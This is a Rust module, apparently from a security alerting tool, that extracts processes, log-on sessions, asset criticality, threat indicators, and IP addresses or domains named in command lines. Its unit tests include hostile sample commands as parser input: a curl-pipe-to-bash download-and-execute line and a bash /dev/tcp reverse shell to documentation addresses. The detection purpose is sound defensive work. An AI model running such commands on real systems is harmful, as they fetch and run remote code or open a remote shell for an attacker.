//! What the event of a finding says beside who took part: which process and which log-on session
//! it was, how critical its assets are, which indicator it met.

use std::collections::{BTreeMap, BTreeSet};

use std::net::IpAddr;

use watchfloor_event::Finding;
use watchfloor_model::{Alert, Criticality, Entity, EntityKind, EntityRef};

use super::bind::is_commonplace;

/// Fields that name a process for all time, and the program that runs in it.
const PROCESSES: [(&str, &str); 2] = [
    ("process.uid", "process.file.path"),
    ("actor.process.uid", "actor.process.file.path"),
];

/// Fields that name a process by its number, which the system gives again later.
const NUMBERED_PROCESSES: [(&str, &str); 2] = [
    ("process.pid", "process.file.path"),
    ("actor.process.pid", "actor.process.file.path"),
];

/// Fields that name a log-on session.
const SESSIONS: [&str; 2] = ["actor.session.uid", "session.uid"];

/// Sessions that every machine has, of the system and its services, and none.
const SYSTEM_SESSIONS: [&str; 9] = [
    "0x0",
    "0x3e7",
    "0x3e4",
    "0x3e5",
    "0",
    "999",
    "-",
    "unset",
    "4294967295",
];

/// Programs that start, or are looked at, for everybody: to share one of them says nothing of
/// whose hand it was.
const BROKERS: [&str; 28] = [
    "services.exe",
    "svchost.exe",
    "explorer.exe",
    "wininit.exe",
    "winlogon.exe",
    "csrss.exe",
    "smss.exe",
    "lsass.exe",
    "userinit.exe",
    "taskeng.exe",
    "taskhostw.exe",
    "wmiprvse.exe",
    "dllhost.exe",
    "sihost.exe",
    "runtimebroker.exe",
    "wsmprovhost.exe",
    "w3wp.exe",
    "system",
    "systemd",
    "init",
    "sshd",
    "cron",
    "crond",
    "containerd-shim",
    "containerd-shim-runc-v2",
    "dockerd",
    "nginx",
    "apache2",
];

/// Tables of assets name these as the machines and accounts of an event.
const CRITICALITIES: [(&str, &str); 5] = [
    ("unmapped.device.criticality", "device.hostname"),
    ("unmapped.dst_endpoint.criticality", "dst_endpoint.hostname"),
    ("unmapped.src_endpoint.criticality", "src_endpoint.hostname"),
    ("unmapped.user.criticality", "user.name"),
    ("unmapped.actor.user.criticality", "actor.user.name"),
];

/// Confidence of an indicator whose producer says none.
const CONFIDENCE_UNSAID: u8 = 50;

/// Fields of an event by full name.
type Fields = BTreeMap<String, String>;

/// The name of a program without its folder, in lower case.
pub(crate) fn base_name(path: &str) -> String {
    let name = path.rsplit(['\\', '/']).next().unwrap_or(path);
    name.to_lowercase()
}

/// Whether a program serves everybody.
pub(crate) fn is_broker(path: &str) -> bool {
    BROKERS.contains(&base_name(path).as_str())
}

fn said<'f>(fields: &'f Fields, name: &str) -> Option<&'f str> {
    let value = fields.get(name)?.trim();
    (!value.is_empty() && value != "-").then_some(value)
}

/// Whether an id of a process names one: all zeros do not.
fn names_process(id: &str) -> bool {
    id.chars().any(|c| c.is_ascii_alphanumeric() && c != '0')
}

/// Processes and sessions of an event, as `kind host/id`; none where no machine is named.
pub(crate) fn traces_of(fields: &Fields) -> Vec<String> {
    let Some(host) = said(fields, "device.hostname") else {
        return Vec::new();
    };
    let host = EntityRef::new(EntityKind::Host, host).value;
    let mut traces = BTreeSet::new();
    let mut follow = |kind: &str, places: [(&str, &str); 2]| {
        for (id, program) in places {
            let serves_all = said(fields, program).is_some_and(is_broker);
            if let Some(id) = said(fields, id).filter(|id| !serves_all && names_process(id)) {
                traces.insert(format!("{kind} {host}/{}", id.to_lowercase()));
            }
        }
    };
    if PROCESSES.iter().any(|(id, _)| fields.contains_key(*id)) {
        follow("process", PROCESSES);
    } else {
        follow("pid", NUMBERED_PROCESSES);
    }
    for name in SESSIONS {
        let id = said(fields, name).map(str::to_lowercase);
        if let Some(id) = id.filter(|id| !SYSTEM_SESSIONS.contains(&id.as_str())) {
            traces.insert(format!("session {host}/{id}"));
        }
    }
    traces.into_iter().take(Alert::MAX_TRACES).collect()
}

/// The largest criticality that an event names, and whose it is.
pub(crate) fn criticality_of(fields: &Fields) -> Option<(String, String)> {
    CRITICALITIES
        .iter()
        .filter_map(|(name, whose)| {
            let word = said(fields, name)?;
            let whose = said(fields, whose).unwrap_or("an asset");
            Some((word.to_owned(), whose.to_owned()))
        })
        .rev()
        .max_by_key(|(word, _)| Criticality::from_word(word))
}

/// The indicator that an event met: confidence and name.
pub(crate) fn indicator_of(fields: &Fields) -> Option<(u8, String)> {
    let list = said(fields, "unmapped.indicator.list")?;
    let confidence = said(fields, "unmapped.indicator.confidence");
    let confidence = confidence.and_then(|text| text.parse().ok());
    let name = said(fields, "unmapped.indicator.name").unwrap_or(list);
    Some((confidence.unwrap_or(CONFIDENCE_UNSAID), name.to_owned()))
}

/// Most things taken out of the texts of one finding.
const NAMED_MAX: usize = 8;

/// Role of what a command line, a script or a request names.
const NAMED: &str = "named in the text";

/// Fields whose text names what is reached.
const TEXTS: [&str; 4] = [
    "process.cmd_line",
    "unmapped.ScriptBlockText",
    "http_request.url.url_string",
    "unmapped.ImagePath",
];

/// Characters of a host name or address in a text.
const fn is_name(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '.' | '-')
}

/// Addresses, and hosts of web addresses, that a text names.
fn names_in(text: &str, found: &mut BTreeSet<(EntityKind, String)>) {
    let mut rest = text;
    while let Some(at) = rest.find("://") {
        rest = rest.get(at + 3..).unwrap_or_default();
        let end = rest.find(|c: char| !is_name(c)).unwrap_or(rest.len());
        let host = rest.get(..end).unwrap_or_default().trim_matches('.');
        let is_domain = host.contains('.') && host.chars().any(|c| c.is_ascii_alphabetic());
        if is_domain && host.parse::<IpAddr>().is_err() {
            found.insert((EntityKind::Domain, host.to_lowercase()));
        }
    }
    // A number of a version has more or fewer parts, or parts beyond 255, or stands in a name.
    // What is written as a network names no machine.
    for word in text.split(|c: char| !is_name(c) && c != '/') {
        let is_network = word
            .split_once('/')
            .is_some_and(|(_, bits)| bits.len() <= 2 && bits.parse::<u8>().is_ok());
        if is_network {
            continue;
        }
        for word in word.split('/') {
            let word = word.trim_end_matches(['.', '-']);
            if word.matches('.').count() == 3 && word.parse::<IpAddr>().is_ok() {
                found.insert((EntityKind::Address, word.to_owned()));
            }
        }
    }
}

/// What the command line, the script or the request of a finding names: addresses and hosts that
/// are in no field of their own.
pub(crate) fn named_in(finding: &Finding, fields: Option<&Fields>) -> Vec<Entity> {
    let mut found = BTreeSet::new();
    for reason in &finding.reasons {
        names_in(&reason.value, &mut found);
    }
    for name in TEXTS {
        if let Some(text) = fields.and_then(|fields| said(fields, name)) {
            names_in(text, &mut found);
        }
    }
    found
        .into_iter()
        .map(|(kind, value)| Entity {
            kind,
            value,
            role: NAMED.to_owned(),
        })
        .filter(|entity| !is_commonplace(&entity.key()))
        .take(NAMED_MAX)
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fields(pairs: &[(&str, &str)]) -> Fields {
        let owned = |(name, value): &(&str, &str)| ((*name).to_owned(), (*value).to_owned());
        pairs.iter().map(owned).collect()
    }

    #[test]
    fn traces_leave_out_what_everybody_shares() {
        let event = fields(&[
            ("device.hostname", "WS-1.corp.example"),
            ("process.uid", "{A1}"),
            ("process.file.path", "C:\\Windows\\System32\\cmd.exe"),
            ("actor.process.uid", "{B2}"),
            (
                "actor.process.file.path",
                "C:\\Windows\\System32\\services.exe",
            ),
            ("actor.session.uid", "0x3E7"),
            ("session.uid", "0x51f2a0"),
            ("process.pid", "77"),
        ]);
        assert_eq!(
            traces_of(&event),
            ["process ws-1/{a1}", "session ws-1/0x51f2a0"]
        );
        let numbered = fields(&[
            ("device.hostname", "web-01"),
            ("process.pid", "21500"),
            ("actor.process.pid", "21480"),
            ("actor.session.uid", "4294967295"),
        ]);
        assert_eq!(
            traces_of(&numbered),
            ["pid web-01/21480", "pid web-01/21500"]
        );
        assert!(traces_of(&fields(&[("process.pid", "3")])).is_empty());
        let nothing = fields(&[
            ("device.hostname", "ws-1"),
            ("process.uid", "{00000000-0000-0000-0000-000000000000}"),
        ]);
        assert!(traces_of(&nothing).is_empty());
    }

    #[test]
    fn texts_name_addresses_and_hosts() {
        for (text, expected) in [
            (
                "sh -c curl -s http://203.0.113.201/x.sh | bash",
                vec!["203.0.113.201"],
            ),
            (
                "bash -i >& /dev/tcp/203.0.113.88/8443 0>&1",
                vec!["203.0.113.88"],
            ),
            (
                "curl https://drop.example.net:8443/a?b=1.2.3.4.5",
                vec!["drop.example.net"],
            ),
            ("setup.exe 10.0.22621.1 v1.2.3.4 4.18.24090.11", vec![]),
            ("nmap -sT -p 22 10.44.1.0/24", vec![]),
            ("ping 127.0.0.1", vec!["127.0.0.1"]),
        ] {
            let mut found = BTreeSet::new();
            names_in(text, &mut found);
            let values: Vec<&str> = found.iter().map(|(_, value)| value.as_str()).collect();
            assert_eq!(values, expected, "{text}");
        }
    }

    #[test]
    fn the_most_critical_asset_and_the_indicator_are_told() {
        let event = fields(&[
            ("unmapped.src_endpoint.criticality", "low"),
            ("unmapped.device.criticality", "High"),
            ("device.hostname", "dc-01"),
            ("unmapped.indicator.list", "cert.csv"),
            ("unmapped.indicator.confidence", "85"),
        ]);
        assert_eq!(
            criticality_of(&event),
            Some(("High".to_owned(), "dc-01".to_owned()))
        );
        assert_eq!(indicator_of(&event), Some((85, "cert.csv".to_owned())));
        assert_eq!(indicator_of(&fields(&[])), None);
        assert_eq!(criticality_of(&fields(&[])), None);
    }
}
